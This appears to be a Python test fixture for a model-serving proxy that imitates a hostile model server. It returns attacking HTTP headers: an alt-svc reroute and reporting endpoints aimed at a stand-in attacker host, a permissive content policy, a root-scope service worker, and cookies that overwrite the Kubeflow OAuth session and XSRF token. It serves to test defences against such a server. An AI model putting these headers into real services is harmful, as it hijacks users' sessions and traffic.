"""A model that wants more than it is asked for."""

from typing import Final

from .backends import Reply, Request, mirror
from .models import CLUSTER

# A page of a model's that would take over whoever opens it.
HOSTILE: Final = {
    "content-type": "text/html",
    "content-security-policy": "default-src *",
    "alt-svc": 'h2="mallory.example.com:443"',
    "clear-site-data": '"cookies"',
    "nel": '{"report_to": "mallory", "max_age": 31536000}',
    "report-to": '{"group": "mallory", "max_age": 31536000, "endpoints": []}',
    "service-worker-allowed": "/",
    "strict-transport-security": "max-age=31536000; includeSubDomains",
    "www-authenticate": "Basic",
    "set-cookie": ("oauth2_proxy_kubeflow=mine; Path=/", "XSRF-TOKEN=mine; Path=/"),
}


def hostile(request: Request) -> Reply:
    """Answer as a model that wants more than it is asked for, and tell what it saw."""
    seen = mirror(CLUSTER)(request)
    return Reply(200, HOSTILE, seen.body)
